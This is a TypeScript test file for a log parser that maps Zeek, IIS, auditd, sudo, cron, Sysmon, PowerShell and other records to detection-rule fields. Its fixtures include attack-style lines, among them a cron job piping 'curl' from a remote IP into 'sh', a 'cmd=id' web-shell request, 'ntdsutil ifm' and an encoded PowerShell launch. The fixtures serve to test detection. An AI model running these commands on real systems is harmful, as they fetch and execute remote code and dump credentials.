import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { readAsHunt } from '../scripts/read-fixtures.ts';
import type { FieldValue, LogEvent, LogsourceView } from '../src/model/index.ts';
import { DEV_FOLDER, hasDevCorpus } from './dev-corpus.ts';

type Fields = Readonly<Record<string, FieldValue | undefined>>;
type Logsource = Pick<LogsourceView, 'product' | 'category' | 'service'>;

const CONN =
  '#separator \\x09\n#path\tconn\n#fields\tts\tid.orig_h\tid.resp_h\tid.resp_p\n#types\ttime\taddr\taddr\tport\n';
const HTTP =
  '#separator \\x09\n#path\thttp\n#fields\tts\tmethod\thost\turi\tuser_agent\n#types\ttime\tstring\tstring\tstring\tstring\n';
const IIS =
  '#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method cs-uri-stem cs-uri-query cs(User-Agent)\n';
const PROXY = '#Software: SGOS\n#Fields: date time s-action cs-method cs-host cs-uri-path cs-uri-query\n';
const FIREWALL =
  '#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Fields: date time action src-ip dst-ip dst-port\n';
const AUDIT_CALL = (call: number): string =>
  `type=SYSCALL msg=audit(1772438400.1:7): arch=c000003e syscall=${call} ppid=2 pid=3 uid=0 exe="/usr/bin/tar"\n`;
const AUDIT = 'msg=audit(1772438400.1:7):';
const SESSION = (application: string): string =>
  `${'*'.repeat(22)}\nWindows PowerShell transcript start\nStart time: 20260302080000\nUsername: C\\a\nRunAs User: C\\a\nConfiguration Name:\nMachine: WS07 (x)\nHost Application: ${application}\nProcess ID: 7\n${'*'.repeat(22)}\n`;

test.each<[what: string, text: string, logsource: Logsource, fields: Fields]>([
  [
    'a path of Zeek is a service',
    `${CONN}1772438400.5\t10.0.0.1\t10.0.0.2\t445\n`,
    { product: 'zeek', service: 'conn' },
    { 'id.resp_p': 445 },
  ],
  [
    'rules of a path of Zeek may use the names of a category',
    `${HTTP}1772438400.5\tGET\tfiles.example\thttp://files.example/a\tcurl\n`,
    { product: 'zeek', service: 'http' },
    { 'c-uri': 'http://files.example/a', 'c-useragent': 'curl', user_agent: 'curl' },
  ],
  [
    'connections of Zeek answer rules for firewalls',
    `${CONN}1772438400.5\t10.0.0.1\t10.0.0.2\t445\n`,
    { category: 'firewall' },
    { src_ip: '10.0.0.1', dst_ip: '10.0.0.2', dst_port: 445 },
  ],
  [
    'requests that Zeek saw answer rules for proxies, with scheme and host',
    `${HTTP}1772438400.5\tGET\tfiles.example\t/a/setup.exe?x=1\tcurl\n`,
    { category: 'proxy' },
    {
      'c-uri': ['/a/setup.exe?x=1', 'http://files.example/a/setup.exe?x=1'],
      ...{ 'c-uri-extension': 'exe', 'c-useragent': 'curl', 'cs-host': 'files.example' },
    },
  ],
  [
    'requests that Zeek saw answer rules for web servers',
    `${HTTP}1772438400.5\tPOST\tportal.example\t/a.jsp?cmd=id\tcurl\n`,
    { category: 'webserver' },
    { 'cs-method': 'POST', 'cs-uri-stem': '/a.jsp', 'cs-uri-query': ['cmd=id', '/a.jsp?cmd=id'] },
  ],
  [
    'Zeek as JSON without a path is told by its fields',
    '{"ts":1772438400.5,"uid":"C1","id.orig_h":"10.0.0.1","trans_id":7,"proto":"udp","rejected":false,"query":"a.example","qtype_name":"TXT","answers":["x"]}\n',
    { category: 'dns' },
    { query: 'a.example', record_type: 'TXT', answer: ['x'] },
  ],
  [
    'IIS writes plus signs for the blanks of a user agent',
    `${IIS}2026-03-02 08:00:00 GET /a.aspx x=1 Mozilla/5.0+(X11)\n`,
    { category: 'webserver' },
    {
      'cs-user-agent': ['Mozilla/5.0 (X11)', 'Mozilla/5.0+(X11)'],
      'cs-uri-query': ['x=1', '/a.aspx?x=1'],
      'cs-uri-stem': '/a.aspx',
    },
  ],
  [
    'a W3C log with the fields of a proxy is one',
    `${PROXY}2026-03-02 08:00:00 TCP_MISS GET files.example /a.zip ?x=1\n`,
    { category: 'proxy' },
    { 'c-uri': '/a.zip?x=1', 'cs-host': 'files.example', 'c-uri-extension': 'zip' },
  ],
  [
    'Windows Firewall lets through',
    `${FIREWALL}2026-03-02 08:00:00 ALLOW 10.0.0.1 10.0.0.2 3306\n`,
    { category: 'firewall' },
    { action: 'accept', blocked: 'false', dst_port: 3306, src_ip: '10.0.0.1' },
  ],
  [
    'Windows Firewall drops',
    `${FIREWALL}2026-03-02 08:00:00 DROP 10.0.0.1 10.0.0.2 3306\n`,
    { category: 'firewall' },
    { action: 'drop', blocked: 'true' },
  ],
  [
    'an access log without a query has the whole request where rules look for it',
    '192.0.2.1 - - [02/Mar/2026:08:00:00 +0000] "GET /html/promotion/selfsdp.jspx HTTP/1.1" 200 1 "-" "curl/8"\n',
    { category: 'webserver' },
    {
      'cs-uri-query': '/html/promotion/selfsdp.jspx',
      'sc-status': 200,
      'c-ip': '192.0.2.1',
      'cs-user-agent': 'curl/8',
    },
  ],
  [
    'an execution with its arguments reads like a process creation of Sysmon',
    `${AUDIT_CALL(59)}type=CWD ${AUDIT} cwd="/root"\ntype=EXECVE ${AUDIT} argc=2 a0="tar" a1=2F6120622F63\n`,
    { product: 'linux', category: 'process_creation' },
    {
      ...{ Image: '/usr/bin/tar', CommandLine: 'tar /a b/c', User: 'root', CurrentDirectory: '/root' },
      ...{ ProcessId: '3', ParentProcessId: '2' },
    },
  ],
  [
    'the number of a system call has a name',
    AUDIT_CALL(319),
    { product: 'linux', service: 'auditd' },
    { SYSCALL: 'memfd_create', type: 'SYSCALL' },
  ],
  [
    'a file that was made has its whole path',
    `${AUDIT_CALL(257)}type=CWD ${AUDIT} cwd="/etc"\ntype=PATH ${AUDIT} item=1 name="cron.d/x" nametype=CREATE\n`,
    { product: 'linux', category: 'file_event' },
    { TargetFilename: '/etc/cron.d/x', Image: '/usr/bin/tar' },
  ],
  [
    'a connection to IPv6 has its address in short',
    `${AUDIT_CALL(42)}type=SOCKADDR ${AUDIT} saddr=0A0001BB0000000020010DB800000000000000000000000100000000\n`,
    { product: 'linux', category: 'network_connection' },
    { DestinationIp: '2001:db8::1', DestinationPort: 443, Initiated: 'true', Image: '/usr/bin/tar' },
  ],
  [
    'a failed login by SSH',
    'Mar  2 08:00:00 web1 sshd[1]: Failed password for invalid user a b from 203.0.113.5 port 4711 ssh2\n',
    { product: 'linux', service: 'sshd' },
    { outcome: 'Failed', auth_method: 'password', user: 'a b', src_ip: '203.0.113.5', src_port: '4711' },
  ],
  [
    'fields of sudo have the names that it writes',
    'Mar  2 08:00:00 web1 sudo:  ann : TTY=pts/0 ; PWD=/tmp ; USER=#-1 ; COMMAND=/usr/bin/id -u\n',
    { product: 'linux', service: 'sudo' },
    { USER: '#-1', user: 'ann', COMMAND: '/usr/bin/id -u', PWD: '/tmp' },
  ],
  [
    'what sudo ran is a process creation',
    'Mar  2 08:00:00 web1 sudo:  ann : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id -u\n',
    { product: 'linux', category: 'process_creation' },
    { Image: '/usr/bin/id', CommandLine: '/usr/bin/id -u', User: 'root', CurrentDirectory: '/tmp' },
  ],
  [
    'what cron ran is a process creation',
    'Mar  2 08:00:00 web1 CRON[7]: (www-data) CMD (curl -s http://203.0.113.9/x | sh)\n',
    { product: 'linux', category: 'process_creation' },
    { CommandLine: 'curl -s http://203.0.113.9/x | sh', User: 'www-data' },
  ],
  [
    'Sysmon for Linux writes its events to syslog',
    'Mar  2 08:00:00 web1 sysmon: <Event><System><EventID>1</EventID></System><EventData><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c &quot;id&quot;</Data><Data Name="ParentImage">/usr/sbin/apache2</Data><Data Name="ParentCommandLine">-</Data></EventData></Event>\n',
    { product: 'linux', category: 'process_creation' },
    {
      ...{ Image: '/usr/bin/bash', CommandLine: 'bash -c "id"', ParentImage: '/usr/sbin/apache2' },
      ParentCommandLine: undefined,
    },
  ],
  [
    'a lease of Windows DHCP',
    'ID,Date,Time,Description,IP Address,Host Name,MAC Address\n10,03/02/26,08:00:00,Assign,10.0.0.1,WS07,00155D010203\n',
    { product: 'windows', service: 'dhcp' },
    { ID: '10', 'IP Address': '10.0.0.1', 'Host Name': 'WS07' },
  ],
  [
    'a query to Windows DNS',
    '3/2/2026 8:00:11 AM 0F4C PACKET  000001F2A2E3C4D0 UDP Rcv 10.0.0.1 4660   Q [0001   D   NOERROR] TXT    (1)a(7)example(0)\n',
    { category: 'dns' },
    { query: 'a.example', record_type: 'TXT', src_ip: '10.0.0.1' },
  ],
  [
    'a command of a PowerShell transcript is a script block',
    `${SESSION('powershell.exe')}PS C:\\> ntdsutil ifm\n`,
    { product: 'windows', category: 'ps_script' },
    { ScriptBlockText: 'ntdsutil ifm', Path: 'C:\\' },
  ],
  [
    'a PowerShell session that was called with arguments is a process creation',
    SESSION('C:\\Program Files\\PowerShell\\7\\pwsh.exe -enc AAAA'),
    { product: 'windows', category: 'process_creation' },
    { Image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', User: 'C\\a', ProcessId: '7' },
  ],
  [
    'a query that Suricata 8 lists',
    '{"timestamp":"2026-03-02T08:00:00.0+0000","event_type":"dns","flow_id":1,"dns":{"version":3,"queries":[{"rrname":"a.example","rrtype":"A"}]}}\n',
    { category: 'dns' },
    { query: ['a.example'], record_type: ['A'] },
  ],
  [
    'a flow of nfdump',
    'ts,te,td,sa,da,sp,dp,pr\n2026-03-02 08:00:00,2026-03-02 08:00:00,0,10.0.0.1,10.0.0.2,50000,3306,TCP\n',
    { service: 'netflow' },
    { 'destination.port': '3306', 'source.ip': '10.0.0.1' },
  ],
])('%s', (_, text, logsource, fields) => {
  expect(lastAnswer(text, logsource, Object.keys(fields))).toEqual(fields);
});

test.each<[what: string, text: string, logsource: Logsource]>([
  [
    'a proxy is no web server',
    `${PROXY}2026-03-02 08:00:00 TCP_MISS GET files.example /a.zip ?x=1\n`,
    { category: 'webserver' },
  ],
  [
    'a call with logged arguments is told of by these alone',
    `${AUDIT_CALL(59)}type=EXECVE ${AUDIT} argc=1 a0="tar"\n`.split('\n').reverse().join('\n').trimStart(),
    { category: 'process_creation' },
  ],
  [
    'a file that was only looked at is no new file',
    `${AUDIT_CALL(257)}type=PATH ${AUDIT} item=0 name="/etc/passwd" nametype=NORMAL\n`,
    { category: 'file_event' },
  ],
  [
    'a socket that was bound is no connection',
    `${AUDIT_CALL(49)}type=SOCKADDR ${AUDIT} saddr=02000050CB00715A0000000000000000\n`,
    { category: 'network_connection' },
  ],
  [
    'what sudo refused did not run',
    'Mar  2 08:00:00 web1 sudo:  ann : command not allowed ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/id\n',
    { category: 'process_creation' },
  ],
  [
    'a PowerShell session without arguments says nothing of how it was called',
    SESSION('powershell.exe'),
    { category: 'process_creation' },
  ],
])('%s', (_, text, logsource) => {
  expect(lastAnswer(text, logsource, [])).toBeUndefined();
});

test
  .skipIf(!hasDevCorpus('counts of records in public text logs'))
  .each([
    'zeek/slips/test9-mixed-zeek-dir/http.log',
    'zeek/rita/proxy/http.log',
    'zeek/wrccdc2018-tsv/rdp.log.gz',
    'iis/iis6.log',
    'iis/iis10.log',
    'linux/msticpy/auditd_log.txt',
    'linux/plaso/audit_enriched.log',
    'misc/windows_firewall.log',
  ])('every line of %s is a record with a time', (path) => {
  const bytes = new Uint8Array(readFileSync(`${DEV_FOLDER}/${path}`));
  const text = new TextDecoder().decode(path.endsWith('.gz') ? gunzipSync(bytes) : bytes);
  const times: (number | undefined)[] = [];
  for (const item of readAsHunt(path, bytes)) {
    if (item.kind === 'event') times.push(item.event.timeMs);
    expect(item.kind).not.toBe('problem');
  }
  expect(times).toHaveLength(text.split(/\r?\n/).filter((line) => line !== '' && !line.startsWith('#')).length);
  expect(times).not.toContain(undefined);
});

/** What the last event of a text answers to a logsource, under the names of its rules; undefined when it does not answer. */
function lastAnswer(text: string, logsource: Logsource, fields: readonly string[]): Fields | undefined {
  let answer: Fields | undefined;
  for (const item of readAsHunt('a.log', new TextEncoder().encode(text))) {
    if (item.kind === 'event') answer = answerOf(item.event, logsource, fields);
    else if (item.kind === 'problem') throw new Error(item.problem.message);
  }
  return answer;
}

function answerOf(event: LogEvent, logsource: Logsource, fields: readonly string[]): Fields | undefined {
  const view = event.schema.views.find(
    ({ product, category, service }) =>
      category === logsource.category &&
      (logsource.product === undefined || product === logsource.product) &&
      (logsource.service === undefined || service === logsource.service),
  );
  if (view === undefined) return undefined;
  return Object.fromEntries(
    fields.map((field) => {
      const source = view.fields.get(field) ?? field;
      if (typeof source === 'string') return [field, event.get(source)];
      return [field, source.derive(source.from.map((name) => event.get(name)))];
    }),
  );
}
